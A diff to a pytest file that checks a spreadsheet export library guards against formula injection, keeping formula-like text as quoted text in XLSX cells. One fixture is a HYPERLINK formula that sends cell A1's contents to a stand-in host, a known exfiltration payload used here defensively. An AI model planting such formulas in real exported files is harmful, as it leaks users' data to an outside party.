@@ -10,7 +10,7 @@ from decimal import Decimal
 import openpyxl
 import pytest
 
-from capdev.lib.spreadsheets import neutralise, write_csv_rows, write_xlsx_rows
+from capdev.lib.spreadsheets import neutralise, set_text_cell, write_csv_rows, write_xlsx_rows
 
 DANGEROUS = [
     ("=1+1", "'=1+1"),
@@ -55,14 +55,45 @@ def test_csv_rows_are_neutralised_header_included():
     ]
 
 
-def test_xlsx_cells_are_text_not_formulas_and_numbers_stay_numbers():
+def test_xlsx_cells_keep_their_text_as_text_never_formulas_and_numbers_stay_numbers():
+    hyperlink = '=HYPERLINK("http://x.example/?"&A1,"Click")'
     data = write_xlsx_rows(
-        [["=1+1", -3], ["+A1", 2.5]], header=["Name", "=Value"], sheet_title="Results: a/b"
+        [[hyperlink, -3], ["+41 22 799 61 11", 2.5], ["#N/A", None], ["plain", 0]],
+        header=["Name", "=Value"],
+        sheet_title="Results: a/b",
     )
     book = openpyxl.load_workbook(io.BytesIO(data))
     sheet = book.active
     assert sheet.title == "Results  a b"
-    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
-    assert values == [["Name", "'=Value"], ["'=1+1", -3], ["'+A1", 2.5]]
-    assert {cell.data_type for row in sheet.iter_rows() for cell in row} == {"s", "n"}
-    assert sheet["A1"].font.bold
+    cells = [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]
+    assert cells == [
+        [("Name", "s"), ("=Value", "s")],
+        [(hyperlink, "s"), (-3, "n")],
+        [("+41 22 799 61 11", "s"), (2.5, "n")],
+        [("#N/A", "s"), (None, "n")],
+        [("plain", "s"), (0, "n")],
+    ]
+    # Text a spreadsheet would read as a formula carries the quote prefix (kept text when
+    # edited); other text does not need it.
+    quoted = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.quotePrefix]
+    assert quoted == ["B1", "A2", "A3"]
+    assert sheet["A1"].font.bold and sheet["B1"].font.bold
+
+
+def test_set_text_cell_works_on_an_ordinary_sheet():
+    book = openpyxl.Workbook()
+    sheet = book.active
+    set_text_cell(sheet["A1"], "=1+1")
+    set_text_cell(sheet["A2"], "-2+3")
+    set_text_cell(sheet["A3"], "Ministry of Labour")
+    set_text_cell(sheet["A4"], -5)
+    buffer = io.BytesIO()
+    book.save(buffer)
+    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
+    cells = [sheet[coordinate] for coordinate in ("A1", "A2", "A3", "A4")]
+    assert [(cell.value, cell.data_type, cell.quotePrefix) for cell in cells] == [
+        ("=1+1", "s", True),
+        ("-2+3", "s", True),
+        ("Ministry of Labour", "s", False),
+        (-5, "n", False),
+    ]
